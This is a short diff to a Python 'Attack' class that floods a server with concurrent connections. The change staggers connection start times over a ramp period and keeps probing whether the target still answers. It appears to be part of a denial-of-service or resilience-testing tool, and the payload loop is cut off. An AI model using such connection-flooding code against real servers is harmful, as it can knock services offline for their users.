@@ -30,6 +30,7 @@ __all__ = ["Attack"]
 
 _PROBE = b"GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
 _INTERVAL = 0.2
+_RAMP = 30.0  # seconds until all connections are there: five hundred in one moment are a second of CPU for any server
 _OPERATOR = """
 import trioperator
 
@@ -60,13 +61,15 @@ class Attack:
         with trio.move_on_after(seconds):
             async with trio.open_nursery() as nursery:
                 for number in range(connections):
-                    nursery.start_soon(self._attack, random.Random(f"{self.seed}-{number}"))
+                    rng = random.Random(f"{self.seed}-{number}")
+                    nursery.start_soon(self._attack, rng, rng.uniform(0, min(_RAMP, seconds / 10)))
                 while True:
                     await trio.to_thread.run_sync(self._probe)
                     await trio.sleep(_INTERVAL)
         await trio.to_thread.run_sync(self._probe)
 
-    async def _attack(self, rng: random.Random) -> None:
+    async def _attack(self, rng: random.Random, delay: float) -> None:
+        await trio.sleep(delay)
         while True:
             await trio.sleep(rng.expovariate(2))
             with contextlib.suppress(OSError, trio.BrokenResourceError):
